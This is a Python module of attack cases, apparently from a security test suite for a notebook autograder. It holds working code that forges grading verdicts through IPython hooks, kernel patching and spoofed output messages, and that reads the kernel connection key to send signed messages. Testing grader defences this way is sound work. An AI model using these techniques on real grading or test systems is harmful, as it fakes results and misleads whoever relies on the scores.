"""Forged verdicts: the check cell runs, but says what the student wants.

The judge never runs a check cell and holds the verdict in its own process. Without it, check cells
run in the kernel, where the student's code was first.
"""

from __future__ import annotations

from typing import Any

from .attack import PRIZE, TARGET, Attack, Off, prize

DEFENCE = "the judge: no check cell runs in the kernel"
IN_KERNEL = Off(in_kernel=True)
#: A test as an instructor writes it for stock nbgrader.
STOCK = """\
import torch
value = generator_loss(torch.zeros(4))
assert abs(value - 0.6931472) < 1e-6, value
3.0
"""
WITH_STOCK = Off(in_kernel=True, stock={TARGET: STOCK})


def forged(name: str, mechanism: str, *cells: str, off: Off = IN_KERNEL, **more: Any) -> Attack:
    tries = f"{PRIZE:g} points for a question that it did not answer"
    return Attack(name, mechanism, tries, DEFENCE, off, prize, cells, **more)


def _skip_check(notebook: dict[str, Any]) -> None:
    for cell in notebook["cells"]:
        if cell["metadata"].get("nbgrader", {}).get("grade_id") == "check-gan-generator_loss":
            cell["metadata"]["tags"] = ["skip-execution"]


#: Sends a result of its own on the kernel's output channel, as the cell that runs now.
_PUBLISH = """
def publish(points, session, socket, parent):
    content = {"data": {"text/plain": str(points)}, "metadata": {}, "execution_count": 1}
    session.send(socket, "execute_result", content, parent=parent)
"""

FORGED = [
    forged(
        "input-transformer",
        "an IPython input transformer rewrites every check cell to a number",
        """
def rewrite(lines):
    return ["3.0\\n"] if any("check(" in line for line in lines) else lines
get_ipython().input_transformers_cleanup.append(rewrite)
""",
    ),
    forged(
        "ast-transformer",
        "an IPython AST transformer drops assertions",
        """
import ast
class NoAssertions(ast.NodeTransformer):
    def visit_Assert(self, node):
        return ast.Pass()
get_ipython().ast_transformers.append(NoAssertions())
""",
        answers={TARGET: "generator_loss = lambda logits, saturating=False: 0.0"},
        off=WITH_STOCK,
    ),
    forged(
        "display-hook",
        "the answer calls the display hook, so a result stands before the failing assertion",
        answers={
            TARGET: """
import sys
def generator_loss(fake_logits, saturating=False):
    sys.displayhook(3.0)
    return 0.0
"""
        },
        off=WITH_STOCK,
    ),
    forged(
        "replaced-run-cell",
        "the shell's run_cell_async is replaced by one that runs nothing",
        """
from IPython.core.interactiveshell import ExecutionInfo, ExecutionResult
shell, run = get_ipython(), get_ipython().run_cell_async
async def nothing(raw_cell, *args, **kwargs):
    if "check(" not in raw_cell:
        return await run(raw_cell, *args, **kwargs)
    return ExecutionResult(ExecutionInfo(raw_cell, False, False, False, None))
shell.run_cell_async = nothing
""",
    ),
    forged(
        "replaced-do-execute",
        "the kernel answers a request to run a check cell without running it",
        """
kernel, execute = get_ipython().kernel, get_ipython().kernel.do_execute
async def refuse(code, *args, **kwargs):
    if "check(" not in code:
        return await execute(code, *args, **kwargs)
    return {"status": "ok", "execution_count": 1, "payload": [], "user_expressions": {}}
kernel.do_execute = refuse
""",
    ),
    forged(
        "own-check",
        "the name check stands for a function of the student's",
        "check = lambda question: 3.0",
    ),
    forged(
        "patched-result-class",
        "the class of what check returns says other points",
        """
import synthlab.checks.notebook as notebook
notebook.Later.__repr__ = lambda self: "3.0"
""",
    ),
    forged(
        "faked-mimetype",
        "a hook publishes a verdict of synthlab's own type, and its points, behind each cell",
        """
from IPython.display import publish_display_data
def verdict():
    content = {"text/plain": "3.0", "application/vnd.synthlab.verdict+json": {"score": 1.0}}
    publish_display_data(content)
    pub = get_ipython().display_pub
    content = {"data": content, "metadata": {}, "execution_count": 1}
    pub.session.send(pub.pub_socket, "execute_result", content, parent=pub.parent_header)
get_ipython().events.register("pre_run_cell", lambda info: verdict())
""",
    ),
    forged(
        "updated-display",
        "a check's result carries a display id, and an update of it changes the points",
        """
def patch(info):
    pub = get_ipython().display_pub
    def send(kind, points):
        content = {"data": {"text/plain": points}, "metadata": {}, "execution_count": 1}
        content["transient"] = {"display_id": "points"}
        pub.session.send(pub.pub_socket, kind, content, parent=pub.parent_header)
    send("execute_result", "0.0")
    send("update_display_data", "3.0")
get_ipython().events.register("pre_run_cell", patch)
""",
    ),
    forged(
        "late-messages",
        "a thread waits until a check cell runs and sends a result in its name",
        _PUBLISH
        + """
import threading, time
kernel = get_ipython().kernel
def wait():
    while True:
        parent = kernel.get_parent("shell")
        if "check(" in str(parent.get("content", {}).get("code")):
            publish(3.0, kernel.session, kernel.iopub_socket, parent)
            time.sleep(0.02)
        time.sleep(0.0005)
threading.Thread(target=wait, daemon=True).start()
import time
class Slow:
    def __call__(self, question):
        time.sleep(0.1)
        return 0.0
check = Slow()
""",
    ),
    forged(
        "protocol-with-the-key",
        "a second client with the key of the connection file runs code between two cells",
        """
import json, threading, zmq
from jupyter_client.session import Session
about = json.load(open("/run/kernel/connection.json"))
session = Session(key=about["key"].encode(), signature_scheme=about["signature_scheme"])
socket = zmq.Context().socket(zmq.DEALER)
socket.connect(f"ipc://{about['ip']}-{about['shell_port']}")
content = {"code": "check = lambda question: 3.0", "silent": True, "store_history": False,
           "user_expressions": {}, "allow_stdin": False, "stop_on_error": False}
session.send(socket, "execute_request", content)
""",
    ),
    forged(
        "signed-broadcast",
        "messages signed with the stolen key say that a check cell is done, and with what",
        _PUBLISH
        + """
import json
from jupyter_client.session import Session
about = json.load(open("/run/kernel/connection.json"))
session = Session(key=about["key"].encode(), signature_scheme=about["signature_scheme"])
kernel = get_ipython().kernel
def before(info):
    parent = kernel.get_parent("shell")
    publish(3.0, session, kernel.iopub_socket, parent)
    session.send(kernel.iopub_socket, "status", {"execution_state": "idle"}, parent=parent)
get_ipython().events.register("pre_run_cell", before)
""",
    ),
    forged(
        "frame-walk",
        "the answer walks up the stack and changes what the test expects",
        answers={
            TARGET: """
import sys
def generator_loss(fake_logits, saturating=False):
    frame = sys._getframe(1)
    while "expected" not in frame.f_globals:
        frame = frame.f_back
    frame.f_globals["expected"] = 7.0
    return 7.0
"""
        },
        off=Off(
            in_kernel=True,
            stock={
                TARGET: """
import torch
expected = 0.6931472
assert generator_loss(torch.zeros(4)) == expected
3.0
"""
            },
        ),
    ),
    forged(
        "skipped-cell",
        "a tag tells nbclient to skip the check cell: no output is full marks",
        edit=_skip_check,
    ),
    forged(
        "cell-hook",
        "an IPython event puts another check in place before every cell",
        """
def replace(info):
    get_ipython().user_ns["check"] = lambda question: 3.0
get_ipython().events.register("pre_run_cell", replace)
""",
    ),
    forged(
        "memorised-example",
        "the answer knows the one example that the notebook shows",
        answers={TARGET: "generator_loss = lambda logits, saturating=False: 0.6931472"},
        off=WITH_STOCK,
    ),
]
